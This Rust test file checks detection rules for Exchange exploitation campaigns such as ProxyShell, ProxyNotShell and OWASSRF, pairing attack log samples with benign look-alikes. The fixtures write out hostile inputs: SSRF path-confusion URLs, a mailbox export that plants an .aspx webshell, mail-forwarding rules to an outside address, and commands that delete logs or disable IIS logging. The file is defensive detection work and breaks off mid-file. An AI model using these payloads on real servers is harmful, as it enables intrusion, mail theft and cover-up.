//! The Exchange campaigns after ProxyLogon in the built-in pack (ProxyShell, ProxyNotShell,
//! OWASSRF, ProxyToken, CVE-2020-0688, CVE-2021-42321, CVE-2021-28480/28481) and the
//! post-exploitation rules that go with them: each rule fires on the published shape and stays
//! silent on the benign near-miss an Exchange server produces.

mod common;

use common::*;
use exhunt_detect::Detector;

/// One IIS W3C line as the parser gives it (`cs-uri` is stem?query): one argument per column.
#[allow(clippy::too_many_arguments)]
fn web(
    det: &Detector,
    method: &str,
    stem: &str,
    query: &str,
    port: &str,
    user: &str,
    agent: &str,
    status: &str,
) -> Vec<String> {
    let uri = if query.is_empty() {
        stem.to_string()
    } else {
        format!("{stem}?{query}")
    };
    fire(
        det,
        &iis(),
        &[
            ("s-ip", "10.10.1.20"),
            ("cs-method", method),
            ("cs-uri-stem", stem),
            ("cs-uri-query", query),
            ("s-port", port),
            ("cs-username", user),
            ("c-ip", "203.0.113.7"),
            ("cs-user-agent", agent),
            ("sc-status", status),
            ("cs-uri", &uri),
        ],
    )
}

/// MSExchange Management event 1/6/8: Data[0] cmdlet, Data[1] parameters, Data[2] caller.
fn cmdlet_event(det: &Detector, id: &str, cmdlet: &str, params: &str) -> Vec<String> {
    let caller = "contoso.local/Users/Exchange Admin";
    let data = format!("{cmdlet}\n{params}\n{caller}");
    fire(
        det,
        &mgmt(),
        &[
            ("EventID", id),
            ("Data[0]", cmdlet),
            ("Data[1]", params),
            ("Data[2]", caller),
            ("Data", &data),
        ],
    )
}

const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.5195.54 Safari/537.36";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const W3WP: &str = r"c:\windows\system32\inetsrv\w3wp.exe";

#[test]
fn proxyshell_iis_is_graded() {
    let det = detector();
    let nspi = "@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp&CorrelationID=<empty>;&cafeReqId=3341f5a2-7c1e-4b0e-9d6c-2f1e0c9b8a77;";
    let ok = web(
        &det,
        "POST",
        "/autodiscover/autodiscover.json",
        nspi,
        "443",
        "",
        CHROME,
        "200",
    );
    assert!(
        has(
            &ok,
            "ProxyShell Autodiscover Path Confusion Answered With Success"
        ),
        "{ok:?}"
    );
    assert!(!has(&ok, "Not Answered With Success"), "{ok:?}");
    assert!(!has(&ok, "ProxyNotShell"), "{ok:?}");

    let rps = "@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&Email=autodiscover/autodiscover.json%3F@evil.corp&CorrelationID=<empty>;&cafeReqId=9a0e;";
    let shell = web(
        &det,
        "POST",
        "/autodiscover/autodiscover.json",
        rps,
        "443",
        "",
        CHROME,
        "200",
    );
    assert!(has(&shell, "Answered With Success"), "{shell:?}");
    assert!(has(&shell, "X-Rps-CAT Token"), "{shell:?}");
    assert!(!has(&shell, "ProxyNotShell"), "{shell:?}");

    let patched = web(
        &det,
        "POST",
        "/autodiscover/autodiscover.json",
        nspi,
        "443",
        "",
        CHROME,
        "401",
    );
    assert!(has(&patched, "Not Answered With Success"), "{patched:?}");
    assert!(
        !has(&patched, "Path Confusion Answered With Success"),
        "{patched:?}"
    );

    let scan = "@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com&CorrelationID=<empty>;&cafeReqId=11aa;";
    let probe = web(
        &det,
        "GET",
        "/autodiscover/autodiscover.json",
        scan,
        "443",
        "",
        "Mozilla/5.0 zgrab/0.x",
        "302",
    );
    assert!(has(&probe, "ProxyShell Scanner Probe"), "{probe:?}");
    assert!(!has(&probe, "Path Confusion Answered"), "{probe:?}");
    assert!(!has(&probe, "Not Answered With Success"), "{probe:?}");

    // The back end logs the proxied remote PowerShell request with the token still in the query.
    let backend = web(
        &det,
        "POST",
        "/powershell/",
        "X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&Email=autodiscover/autodiscover.json%3F@evil.corp",
        "444",
        "CONTOSO\\EXCH01$",
        CHROME,
        "200",
    );
    assert!(has(&backend, "X-Rps-CAT Token"), "{backend:?}");

    // Outlook's Autodiscover v2 carries an address and a protocol, never a back-end path.
    let v2 = web(
        &det,
        "GET",
        "/autodiscover/autodiscover.json",
        "Email=alice%40contoso.com&Protocol=ActiveSync&RedirectCount=1&CorrelationID=<empty>;&cafeReqId=77ab;",
        "443",
        "",
        "Outlook-iOS/709.2226530.prod.iphone (4.2241.0)",
        "200",
    );
    assert!(v2.is_empty(), "{v2:?}");
    let v2_ews = web(
        &det,
        "GET",
        "/autodiscover/autodiscover.json",
        "Email=bob@contoso.com&Protocol=EWS&RedirectCount=1&CorrelationID=<empty>;&cafeReqId=77ac;",
        "443",
        "",
        "Microsoft Office/16.0",
        "200",
    );
    assert!(v2_ews.is_empty(), "{v2_ews:?}");
    // The managed-availability remote PowerShell probe on the back end.
    let probe_rps = web(
        &det,
        "POST",
        "/PowerShell/",
        "clientApplication=ActiveMonitor;PSVersion=5.1.17763.1728",
        "444",
        "CONTOSO\\HealthMailbox3e1f0a6b",
        "Microsoft WinRM Client",
        "200",
    );
    assert!(probe_rps.is_empty(), "{probe_rps:?}");
}

#[test]
fn proxyshell_httpproxy() {
    let det = detector();
    let ls = httpproxy();
    let hit = fire(
        &det,
        &ls,
        &[
            ("Protocol", "Autodiscover"),
            ("UrlStem", "/autodiscover/autodiscover.json"),
            (
                "UrlQuery",
                "?@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.corp",
            ),
            ("Method", "POST"),
            ("IsAuthenticated", "false"),
            ("HttpStatus", "200"),
        ],
    );
    assert!(
        has(&hit, "ProxyShell Autodiscover Path Confusion Proxied"),
        "{hit:?}"
    );
    assert!(!has(&hit, "ProxyNotShell"), "{hit:?}");
    let benign = fire(
        &det,
        &ls,
        &[
            ("Protocol", "Autodiscover"),
            ("UrlStem", "/autodiscover/autodiscover.json"),
            (
                "UrlQuery",
                "?Email=alice%40contoso.com&Protocol=Rest&RedirectCount=1",
            ),
            ("Method", "GET"),
            ("AnchorMailbox", "Smtp~alice@contoso.com"),
            ("HttpStatus", "200"),
        ],
    );
    assert!(benign.is_empty(), "{benign:?}");
}

#[test]
fn proxynotshell_iis_and_httpproxy() {
    let det = detector();
    // EOMTv2-era variant: the "@" URL-encoded and PowerShell in mixed case.
    let q =
        "%40evil.corp/PoWeRsHeLl?serverVersion=Version+15.1&CorrelationID=<empty>;&cafeReqId=2b7d;";
    let ok = web(
        &det,
        "POST",
        "/autodiscover/autodiscover.json",
        q,
        "443",
        "CONTOSO\\bob",
        CHROME,
        "200",
    );
    assert!(
        has(
            &ok,
            "ProxyNotShell Autodiscover Request Reaching Remote PowerShell"
        ),
        "{ok:?}"
    );
    assert!(!has(&ok, "ProxyShell"), "{ok:?}");
    let blocked = web(
        &det,
        "POST",
        "/autodiscover/autodiscover.json",
        q,
        "443",
        "",
        CHROME,
        "401",
    );
    assert!(
        has(&blocked, "Not Answered 200 (CVE-2022-41040 Attempt)"),
        "{blocked:?}"
    );
    assert!(!has(&blocked, "Reaching Remote PowerShell"), "{blocked:?}");
    // The same path on the back-end site is Exchange's own proxying, not the front-end request.
    let backend = web(
        &det,
        "POST",
        "/autodiscover/autodiscover.json",
        q,
        "444",
        "CONTOSO\\bob",
        CHROME,
        "200",
    );
    assert!(!has(&backend, "ProxyNotShell"), "{backend:?}");

    let hp = fire(
        &det,
        &httpproxy(),
        &[
            ("UrlStem", "/autodiscover/autodiscover.json"),
            (
                "UrlQuery",
                "?@evil.corp/Powershell?serverVersion=Version+15.1",
            ),
            ("AuthenticatedUser", "CONTOSO\\bob"),
            ("HttpStatus", "200"),
        ],
    );
    assert!(
        has(&hp, "ProxyNotShell Autodiscover Request Proxied"),
        "{hp:?}"
    );
    let hp_denied = fire(
        &det,
        &httpproxy(),
        &[
            ("UrlStem", "/autodiscover/autodiscover.json"),
            (
                "UrlQuery",
                "?@evil.corp/Powershell?serverVersion=Version+15.1",
            ),
            ("HttpStatus", "401"),
        ],
    );
    assert!(hp_denied.is_empty(), "{hp_denied:?}");
}

#[test]
fn owassrf_iis_httpproxy_and_rps_http() {
    let det = detector();
    let stem = "/owa/mastermailbox%40outlook.com/powershell";
    let q = "&CorrelationID=<empty>;&cafeReqId=f00d;";
    let ok = web(&det, "POST", stem, q, "443", "CONTOSO\\bob", CHROME, "200");
    assert!(
        has(
            &ok,
            "OWASSRF - OWA Request Proxied to Remote PowerShell Answered 200"
        ),
        "{ok:?}"
    );
    assert!(!has(&ok, "Attempt"), "{ok:?}");
    let denied = web(&det, "POST", stem, q, "443", "", CHROME, "401");
    assert!(has(&denied, "CVE-2022-41080 Attempt"), "{denied:?}");
    assert!(
        !has(&denied, "Proxied to Remote PowerShell Answered 200"),
        "{denied:?}"
    );
    // Ordinary OWA and the administrators' remote PowerShell.
    let owa = web(
        &det,
        "POST",
        "/owa/service.svc",
        "action=GetFolderMChanges&ID=-40&AC=1&CorrelationID=<empty>;&cafeReqId=aa;",
        "443",
        "CONTOSO\\alice",
        CHROME,
        "200",
    );
    assert!(owa.is_empty(), "{owa:?}");
    let ems = web(
        &det,
        "POST",
        "/powershell",
        "clientApplication=ActiveMonitor;PSVersion=5.1.17763.1728&CorrelationID=<empty>;&cafeReqId=bb;",
        "443",
        "CONTOSO\\exadmin",
        "Microsoft WinRM Client",
        "200",
    );
    assert!(ems.is_empty(), "{ems:?}");

    let hp = fire(
        &det,
        &httpproxy(),
        &[
            ("Protocol", "Owa"),
            ("UrlStem", stem),
            ("Method", "POST"),
            ("AuthenticatedUser", "CONTOSO\\bob"),
            ("HttpStatus", "200"),
        ],
    );
    assert!(
        has(
            &hp,
            "OWASSRF - OWA Request Proxied to Remote PowerShell (CVE-2022-41080)"
        ),
        "{hp:?}"
    );
    let hp_ems = fire(
        &det,
        &httpproxy(),
        &[
            ("Protocol", "PowerShell"),
            ("UrlStem", "/powershell"),
            ("Method", "POST"),
            ("AuthenticatedUser", "CONTOSO\\exadmin"),
            ("HttpStatus", "200"),
        ],
    );
    assert!(hp_ems.is_empty(), "{hp_ems:?}");

    let ls = rps_http();
    let row = |client: &str, status: &str| {
        fire(
            &det,
            &ls,
            &[
                ("UrlStem", "/powershell"),
                ("AuthenticatedUser", "CONTOSO\\bob"),
                ("ClientIpAddress", "203.0.113.7 10.10.1.20"),
                ("HttpStatus", status),
                ("ClientInfo", client),
            ],
        )
    };
    let attacker = row(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/105.0.5195.54 Safari/537.36",
        "200",
    );
    assert!(has(&attacker, "Browser-Like Client"), "{attacker:?}");
    for client in ["Microsoft WinRM Client", "Exchange BackEnd Probes", ""] {
        let benign = row(client, "200");
        assert!(benign.is_empty(), "{client}: {benign:?}");
    }
    assert!(row("python-requests/2.28.1", "500").is_empty());
}

#[test]
fn proxytoken_ecp() {
    let det = detector();
    let hit = web(
        &det,
        "POST",
        "/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject",
        "SecurityToken=x&CorrelationID=<empty>;&cafeReqId=cc;",
        "443",
        "",
        "python-requests/2.26.0",
        "500",
    );
    assert!(has(&hit, "ProxyToken"), "{hit:?}");
    let token_only = web(
        &det,
        "GET",
        "/ecp/victim@contoso.com/PersonalSettings/HomePage.aspx",
        "SecurityToken=x",
        "443",
        "",
        "python-requests/2.26.0",
        "500",
    );
    assert!(has(&token_only, "ProxyToken"), "{token_only:?}");
    // A user creating a rule in ECP options: canary, no SecurityToken, answered 200.
    let user = web(
        &det,
        "POST",
        "/ecp/RulesEditor/InboxRules.svc/NewObject",
        "msExchEcpCanary=Xy1AbC&CorrelationID=<empty>;&cafeReqId=dd;",
        "443",
        "CONTOSO\\alice",
        CHROME,
        "200",
    );
    assert!(user.is_empty(), "{user:?}");
}

#[test]
fn cve_2020_0688_viewstate() {
    let det = detector();
    let q = "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP%2F%2F%2F%2F8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxsLkVkaXRvcg";
    let hit = web(
        &det,
        "GET",
        "/ecp/default.aspx",
        q,
        "443",
        "CONTOSO\\bob",
        CHROME,
        "500",
    );
    assert!(has(&hit, "CVE-2020-0688"), "{hit:?}");
    let missing_page = web(
        &det,
        "GET",
        "/ecp/default.aspx",
        q,
        "443",
        "CONTOSO\\bob",
        CHROME,
        "404",
    );
    assert!(!has(&missing_page, "CVE-2020-0688"), "{missing_page:?}");
    // ECP posts its view state in the body; the query holds only routing data.
    let ecp = web(
        &det,
        "POST",
        "/ecp/default.aspx",
        "ExchClientVer=15&CorrelationID=<empty>;&cafeReqId=ee;",
        "443",
        "CONTOSO\\exadmin",
        CHROME,
        "200",
    );
    assert!(ecp.is_empty(), "{ecp:?}");
}

#[test]
fn cve_2021_28480_owa_calendar() {
    let det = detector();
    let hit = web(
        &det,
        "POST",
        "/owa/calendar/a",
        "",
        "443",
        "",
        "python-requests/2.25.1",
        "200",
    );
    assert!(has(&hit, "CVE-2021-28480"), "{hit:?}");
    let unavailable = web(
        &det,
        "POST",
        "/owa/calendar/a",
        "",
        "443",
        "",
        "python-requests/2.25.1",
        "503",
    );
    assert!(unavailable.is_empty(), "{unavailable:?}");
    // A published calendar whose id happens to start with "a".
    let published = web(
        &det,
        "POST",
        "/owa/calendar/a3f1c2d4e5b6478899aabbccddeeff00@contoso.com/0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f/service.svc",
        "action=GetCalendarEvents",
        "443",
        "",
        CHROME,
        "200",
    );
    assert!(published.is_empty(), "{published:?}");
}

#[test]
fn proxyshell_cmdlets_write_script_pages() {
    let det = detector();
    let export = cmdlet_event(
        &det,
        "1",
        "New-MailboxExportRequest",
        r#"-Mailbox "administrator@contoso.com" -FilePath "\\127.0.0.1\C$\inetpub\wwwroot\aspnet_client\luifdecggoqmansn.aspx""#,
    );
    assert!(
        has(&export, "to a Script Page (ProxyShell CVE-2021-31207)"),
        "{export:?}"
    );
    let cert = cmdlet_event(
        &det,
        "1",
        "New-ExchangeCertificate",
        r#"-GenerateRequest "True" -BinaryEncoded "True" -SubjectName "CN=<script language='JScript' runat='server'>" -RequestFile "\\localhost\C$\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\x.aspx""#,
    );
    assert!(has(&cert, "to a Script Page"), "{cert:?}");
    // A PST to a backup share and a certificate request written for a public CA.
    let backup = cmdlet_event(
        &det,
        "1",
        "New-MailboxExportRequest",
        r#"-Mailbox "alice" -FilePath "\\backup01\pst\alice.pst""#,
    );
    assert!(!has(&backup, "Script Page"), "{backup:?}");
    assert!(!has(&backup, "Share or Web Folder"), "{backup:?}");
    let csr = cmdlet_event(
        &det,
        "1",
        "New-ExchangeCertificate",
        r#"-GenerateRequest "True" -SubjectName "CN=mail.contoso.com" -RequestFile "C:\certs\mail.req""#,
    );
    assert!(csr.is_empty(), "{csr:?}");

    let rps = rps_cmdlet_row(
        &det,
        "New-MailboxExportRequest",
        r#"-Mailbox "administrator" -FilePath "\\127.0.0.1\C$\inetpub\wwwroot\aspnet_client\570221043.aspx""#,
    );
    assert!(
        has(&rps, "Remote PowerShell Cmdlet Wrote a Mailbox Export"),
        "{rps:?}"
    );
    assert!(
        has(
            &rps,
            "Remote PowerShell Mailbox Export Written to a Share or Web Folder"
        ),
        "{rps:?}"
    );
    let rps_backup = rps_cmdlet_row(
        &det,
        "New-MailboxExportRequest",
        r#"-Mailbox "alice" -FilePath "\\backup01\exports\alice.pst""#,
    );
    assert!(rps_backup.is_empty(), "{rps_backup:?}");
    let rps_get = rps_cmdlet_row(&det, "Get-Mailbox", r#"-ResultSize "1""#);
    assert!(rps_get.is_empty(), "{rps_get:?}");
}

#[test]
fn mailbox_rights_granted() {
    let det = detector();
    let role = cmdlet_event(
        &det,
        "1",
        "New-ManagementRoleAssignment",
        r#"-Role "Mailbox Import Export" -User "administrator""#,
    );
    assert!(
        has(
            &role,
            "Mailbox Full Access, Impersonation or Export Right Granted"
        ),
        "{role:?}"
    );
    let fa = cmdlet_event(
        &det,
        "1",
        "Add-MailboxPermission",
        r#"-Identity "ceo" -User "svc_backup" -AccessRights "FullAccess" -InheritanceType "All""#,
    );
    assert!(has(&fa, "Right Granted"), "{fa:?}");
    let helpdesk = cmdlet_event(
        &det,
        "1",
        "New-ManagementRoleAssignment",
        r#"-Role "Mail Recipients" -SecurityGroup "Helpdesk""#,
    );
    assert!(helpdesk.is_empty(), "{helpdesk:?}");
    let read = cmdlet_event(
        &det,
        "1",
        "Add-MailboxPermission",
        r#"-Identity "shared-info" -User "alice" -AccessRights "ReadPermission""#,
    );
    assert!(read.is_empty(), "{read:?}");

    let rps = rps_cmdlet_row(
        &det,
        "New-ManagementRoleAssignment",
        r#"-Role "ApplicationImpersonation" -User "svc_ews""#,
    );
    assert!(has(&rps, "Remote PowerShell Granted Mailbox"), "{rps:?}");
    let rps_other = rps_cmdlet_row(
        &det,
        "New-ManagementRoleAssignment",
        r#"-Role "View-Only Recipients" -User "auditor""#,
    );
    assert!(rps_other.is_empty(), "{rps_other:?}");
}

#[test]
fn forwarding_and_inbox_rules() {
    let det = detector();
    let fwd = cmdlet_event(
        &det,
        "1",
        "Set-Mailbox",
        r#"-Identity "ceo" -ForwardingSmtpAddress "smtp:drop@protonmail.com" -DeliverToMailboxAndForward "True""#,
    );
    assert!(
        has(&fwd, "Mailbox Forwarding or Transport Rule Redirection"),
        "{fwd:?}"
    );
    let tr = cmdlet_event(
        &det,
        "1",
        "New-TransportRule",
        r#"-Name "Journal" -SentToScope "NotInOrganization" -BlindCopyTo "drop@protonmail.com""#,
    );
    assert!(has(&tr, "Transport Rule Redirection"), "{tr:?}");
    // The sample's quota change, and clearing forwarding.
    let quota = cmdlet_event(
        &det,
        "1",
        "Set-Mailbox",
        r#"-Identity "Dave Dalton" -ProhibitSendQuota "9.5 GB""#,
    );
    assert!(quota.is_empty(), "{quota:?}");
    for cleared in [
        r#"-Identity "ceo" -ForwardingSmtpAddress $null"#,
        r#"-Identity "ceo" -ForwardingSmtpAddress """#,
        r#"-Identity "ceo" -ForwardingAddress "" -DeliverToMailboxAndForward "False""#,
    ] {
        let c = cmdlet_event(&det, "1", "Set-Mailbox", cleared);
        assert!(c.is_empty(), "{cleared}: {c:?}");
    }

    let ir = cmdlet_event(
        &det,
        "1",
        "New-InboxRule",
        r#"-Name "." -Mailbox "cfo" -ForwardTo "drop@protonmail.com""#,
    );
    assert!(
        has(&ir, "Inbox Rule That Forwards, Deletes or Hides Mail"),
        "{ir:?}"
    );
    let hide = cmdlet_event(
        &det,
        "1",
        "New-InboxRule",
        r#"-Name ".." -Mailbox "cfo" -SubjectOrBodyContainsWords "invoice" -MoveToFolder "cfo:\RSS Subscriptions" -MarkAsRead "True""#,
    );
    assert!(has(&hide, "Hides Mail"), "{hide:?}");
    let del = cmdlet_event(
        &det,
        "1",
        "Set-InboxRule",
        r#"-Identity "cfo\1234" -DeleteMessage "True""#,
    );
    assert!(has(&del, "Hides Mail"), "{del:?}");
    let filing = cmdlet_event(
        &det,
        "1",
        "New-InboxRule",
        r#"-Name "Newsletters" -Mailbox "alice" -From "news@vendor.com" -MoveToFolder "alice:\Newsletters""#,
    );
    assert!(filing.is_empty(), "{filing:?}");
    let list = cmdlet_event(&det, "1", "Get-InboxRule", "");
    assert!(list.is_empty(), "{list:?}");

    let rps = rps_cmdlet_row(
        &det,
        "New-InboxRule",
        r#"-Name "x" -Mailbox "cfo" -RedirectTo "drop@protonmail.com""#,
    );
    assert!(
        has(&rps, "Remote PowerShell Configured Mail Forwarding"),
        "{rps:?}"
    );
    let rps_fwd = rps_cmdlet_row(
        &det,
        "Set-Mailbox",
        r#"-Identity "ceo" -ForwardingSmtpAddress "drop@protonmail.com""#,
    );
    assert!(
        has(&rps_fwd, "Remote PowerShell Configured Mail Forwarding"),
        "{rps_fwd:?}"
    );
    let rps_quota = rps_cmdlet_row(
        &det,
        "Set-Mailbox",
        r#"-Identity "Dave Dalton" -ProhibitSendQuota "9.5 GB""#,
    );
    assert!(rps_quota.is_empty(), "{rps_quota:?}");

    let ps = script_block(
        &det,
        "Set-Mailbox -Identity ceo -ForwardingSmtpAddress drop@protonmail.com -DeliverToMailboxAndForward $true",
    );
    assert!(has(&ps, "Set in a PowerShell Script Block"), "{ps:?}");
    let ps_hide = script_block(
        &det,
        r#"New-InboxRule -Name x -Mailbox ceo -SubjectContainsWords "payment" -MoveToFolder "ceo:\Conversation History""#,
    );
    assert!(
        has(&ps_hide, "Set in a PowerShell Script Block"),
        "{ps_hide:?}"
    );
    let ps_clear = script_block(
        &det,
        "Get-Mailbox -ResultSize Unlimited | Where {$_.ForwardingSmtpAddress} | Set-Mailbox -ForwardingSmtpAddress $null",
    );
    assert!(ps_clear.is_empty(), "{ps_clear:?}");
}

#[test]
fn mailbox_search_export() {
    let det = detector();
    let hit = cmdlet_event(
        &det,
        "1",
        "Search-Mailbox",
        r#"-Identity "ceo" -SearchQuery "password" -TargetMailbox "exadmin" -TargetFolder "s""#,
    );
    assert!(
        has(&hit, "Mailbox Content Searched and Copied Out"),
        "{hit:?}"
    );
    let estimate = cmdlet_event(
        &det,
        "1",
        "Search-Mailbox",
        r#"-Identity "ceo" -SearchQuery "project" -EstimateResultOnly "True""#,
    );
    assert!(estimate.is_empty(), "{estimate:?}");
    let rps = rps_cmdlet_row(
        &det,
        "New-ComplianceSearchAction",
        r#"-SearchName "all" -Export "True" -Format "FxStream""#,
    );
    assert!(has(&rps, "Remote PowerShell Searched Mailboxes"), "{rps:?}");
    let rps_get = rps_cmdlet_row(&det, "Get-ComplianceSearch", "");
    assert!(rps_get.is_empty(), "{rps_get:?}");
}

#[test]
fn transport_agent_persistence() {
    let det = detector();
    let params = r#"-Name "Sync Agent" -TransportAgentFactory "Sync.AgentFactory" -AssemblyPath "C:\ProgramData\Sync\agent.dll""#;
    let mgmt_hit = cmdlet_event(&det, "1", "Install-TransportAgent", params);
    assert!(
        has(&mgmt_hit, "Exchange Transport Agent Installed or Enabled"),
        "{mgmt_hit:?}"
    );
    let mgmt_get = cmdlet_event(&det, "1", "Get-TransportAgent", "");
    assert!(mgmt_get.is_empty(), "{mgmt_get:?}");
    let rps = rps_cmdlet_row(&det, "Enable-TransportAgent", r#"-Identity "Sync Agent""#);
    assert!(
        has(&rps, "Remote PowerShell Installed or Enabled"),
        "{rps:?}"
    );
    let rps_get = rps_cmdlet_row(&det, "Get-TransportAgent", "");
    assert!(rps_get.is_empty(), "{rps_get:?}");

    let cmd = command_line(
        &det,
        CMD,
        POWERSHELL,
        r#"powershell.exe -command "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Install-TransportAgent -Name 'Sync Agent' -TransportAgentFactory Sync.AgentFactory -AssemblyPath C:\ProgramData\Sync\agent.dll""#,
    );
    assert!(
        has(&cmd, "Installed or Enabled From a Command Line"),
        "{cmd:?}"
    );
    let cmd_get = command_line(
        &det,
        r"C:\Windows\explorer.exe",
        POWERSHELL,
        r#"powershell.exe -command "Get-TransportAgent | Format-List""#,
    );
    assert!(cmd_get.is_empty(), "{cmd_get:?}");
    let ps = script_block(
        &det,
        "Enable-TransportAgent -Identity 'Sync Agent'; Restart-Service MSExchangeTransport",
    );
    assert!(
        has(&ps, "Installed or Enabled in a PowerShell Script Block"),
        "{ps:?}"
    );
    let ps_get = script_block(
        &det,
        "Get-TransportAgent | Format-Table Identity,Enabled,Priority",
    );
    assert!(ps_get.is_empty(), "{ps_get:?}");

    let transport = r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\EdgeTransport.exe";
    let child = command_line(
        &det,
        transport,
        CMD,
        "cmd.exe /c whoami > C:\\ProgramData\\o.txt",
    );
    assert!(
        has(&child, "Exchange Transport Service Started a Process"),
        "{child:?}"
    );
    let ole = command_line(
        &det,
        transport,
        r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\OleConverter.exe",
        r#""C:\Program Files\Microsoft\Exchange Server\V15\Bin\OleConverter.exe" -Embedding"#,
    );
    assert!(ole.is_empty(), "{ole:?}");
}

#[test]
fn cve_2021_42321_get_app() {
    let det = detector();
    let failed = cmdlet_event(
        &det,
        "6",
        "Get-App",
        "-Mailbox \"bob\"\nSystem.InvalidCastException: Unable to cast object of type 'System.Collections.Generic.SortedSet`1[System.String]' to type 'Microsoft.Exchange.Data.ApplicationLogic.Extension.ExtensionData'.",
    );
    assert!(has(&failed, "CVE-2021-42321"), "{failed:?}");
    let not_found = cmdlet_event(
        &det,
        "6",
        "Get-App",
        "-Identity \"x\"\nMicrosoft.Exchange.Configuration.Tasks.ManagementObjectNotFoundException: The app couldn't be found.",
    );
    assert!(not_found.is_empty(), "{not_found:?}");
    let listed = cmdlet_event(&det, "1", "Get-App", "-Mailbox \"bob\"");
    assert!(listed.is_empty(), "{listed:?}");

    let app = application();
    let bf = fire(
        &det,
        &app,
        &[
            ("Provider_Name", "MSExchange Common"),
            ("Level", "2"),
            ("EventID", "4999"),
            (
                "Data[0]",
                "Watson report about to be sent for process id: 4312, with parameters: E12IIS, c-RTL-AMD64, 15.02.0986.005, w3wp#MSExchangeServicesAppPool, System.Runtime.Serialization.Formatters.Binary.BinaryFormatter.Deserialize",
            ),
        ],
    );
    assert!(
        has(&bf, "BinaryFormatter.Deserialize (CVE-2021-42321)"),
        "{bf:?}"
    );
    let other = fire(
        &det,
        &app,
        &[
            ("Provider_Name", "MSExchange Common"),
            ("Level", "2"),
            ("EventID", "4999"),
            (
                "Data[0]",
                "Watson report about to be sent for process id: 4312, with parameters: E12IIS, M.Exchange.Diagnostics, System.IO.IOException",
            ),
        ],
    );
    assert!(other.is_empty(), "{other:?}");
}

#[test]
fn log_deletion_and_logging_disabled() {
    let det = detector();
    let del = fire(
        &det,
        &file_delete(),
        &[
            ("Image", POWERSHELL),
            (
                "TargetFilename",
                r"C:\Program Files\Microsoft\Exchange Server\V15\Logging\CmdletInfra\Powershell-Proxy\Cmdlet\Rps_Cmdlet_2022122013-1.LOG",
            ),
        ],
    );
    assert!(
        has(&del, "Log File Deleted by a Non-Exchange Process"),
        "{del:?}"
    );
    let retention = fire(
        &det,
        &file_delete(),
        &[
            ("Image", W3WP),
            (
                "TargetFilename",
                r"C:\Program Files\Microsoft\Exchange Server\V15\Logging\HttpProxy\Owa\HttpProxy_2022110101-1.LOG",
            ),
        ],
    );
    assert!(retention.is_empty(), "{retention:?}");
    let scheduled = fire(
        &det,
        &file_delete(),
        &[
            ("Image", r"C:\Windows\System32\forfiles.exe"),
            (
                "TargetFilename",
                r"C:\inetpub\logs\LogFiles\W3SVC1\u_ex210101.log",
            ),
        ],
    );
    assert!(scheduled.is_empty(), "{scheduled:?}");

    let wipe = command_line(
        &det,
        W3WP,
        CMD,
        r#"cmd /c cd /d "C:\inetpub\wwwroot\aspnet_client"&del /f /q "C:\Program Files\Microsoft\Exchange Server\V15\Logging\HttpProxy\Owa\*.LOG"&echo [S]&cd&echo [E]"#,
    );
    assert!(
        has(&wipe, "Command Line Deleting Exchange or IIS Logs"),
        "{wipe:?}"
    );
    let ri = command_line(
        &det,
        CMD,
        POWERSHELL,
        r#"powershell -c "Remove-Item -Recurse -Force C:\inetpub\logs\LogFiles\W3SVC1\*""#,
    );
    assert!(has(&ri, "Deleting Exchange or IIS Logs"), "{ri:?}");
    // The sample's scheduled IIS log clean-up and the command forfiles starts for each file.
    let forfiles = command_line(
        &det,
        CMD,
        r"C:\Windows\System32\forfiles.exe",
        r#"forfiles  /p "C:\inetpub\logs\LogFiles" /s /m *.log /d -30 /c "cmd /c del @path""#,
    );
    assert!(forfiles.is_empty(), "{forfiles:?}");
    let forfiles_child = command_line(
        &det,
        r"C:\Windows\System32\forfiles.exe",
        CMD,
        r#"cmd /c del "C:\inetpub\logs\LogFiles\W3SVC1\u_ex201201.log""#,
    );
    assert!(forfiles_child.is_empty(), "{forfiles_child:?}");

    let appcmd = r"C:\Windows\System32\inetsrv\appcmd.exe";
    let off = command_line(
        &det,
        CMD,
        appcmd,
        r"C:\Windows\system32\inetsrv\appcmd.exe set config /section:httpLogging /dontLog:True",
    );
    assert!(
        has(&off, "IIS HTTP Logging Disabled From a Command Line"),
        "{off:?}"
    );
    let on = command_line(
        &det,
        CMD,
        appcmd,
        r"C:\Windows\system32\inetsrv\appcmd.exe set config /section:httpLogging /dontLog:False",
    );
    assert!(on.is_empty(), "{on:?}");
    let show = command_line(
        &det,
        CMD,
        appcmd,
        r"appcmd.exe list config /section:httpLogging",
    );
    assert!(show.is_empty(), "{show:?}");
    let ps_off = script_block(
        &det,
        "Set-WebConfigurationProperty -PSPath 'MACHINE/WEBROOT/APPHOST' -Filter 'system.webServer/httpLogging' -Name dontLog -Value $true",
    );
    assert!(
        has(
            &ps_off,
            "IIS HTTP Logging Disabled in a PowerShell Script Block"
        ),
        "{ps_off:?}"
    );
    let ps_read = script_block(
        &det,
        "Get-WebConfigurationProperty -PSPath 'MACHINE/WEBROOT/APPHOST' -Filter 'system.webServer/httpLogging' -Name dontLog",
    );
    assert!(ps_read.is_empty(), "{ps_read:?}");
}

#[test]
fn vdir_script_outside_ecp() {
    let det = detector();
